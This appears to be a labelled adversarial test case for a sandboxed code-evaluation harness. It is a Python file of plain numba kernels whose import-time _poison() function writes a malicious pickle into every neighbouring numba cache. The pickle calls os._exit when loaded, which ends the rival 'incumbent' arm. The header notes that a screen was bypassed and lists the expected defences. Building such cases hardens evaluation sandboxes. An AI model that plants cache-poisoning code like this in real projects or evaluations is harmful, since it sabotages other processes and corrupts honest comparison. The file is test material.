# class: 20
# tries: while it is being built, leaves a pickle in every numba cache it finds, its own and the
#   incumbent's: loading it ends the process, and with it the other arm
# fails: a build may write to its own directory only, and a cache whose bytes are not those sealed
#   is built again
# wall: sandbox
# screen: bypassed
# refusal: import os
# expect: crash tampered revert refused incorrect

import os
import pickle
from pathlib import Path

import numba
import numpy as np
from numba import njit


class _Poison:
    def __reduce__(self):
        return os._exit, (0,)


def _poison():
    for index in Path(__file__).resolve().parent.parent.glob("*/cache/*.nbi"):
        try:
            index.write_bytes(pickle.dumps(numba.__version__) + pickle.dumps(_Poison()))
        except OSError:
            continue


_poison()


@njit
def prepare(weights):
    return weights.copy()


@njit
def scratch(state):
    return np.empty(state.size, np.float32)


@njit
def weigh(state, scratch, x, total):
    for i in range(x.size):
        scratch[i] = state[i] * x[i]
    s = np.float32(0)
    for i in range(x.size):
        s += scratch[i]
    total[0] = s


@njit
def select(x, bound, rows):
    n = 0
    for i in range(x.size):
        if x[i] > bound:
            rows[n] = i
            n += 1
    return n
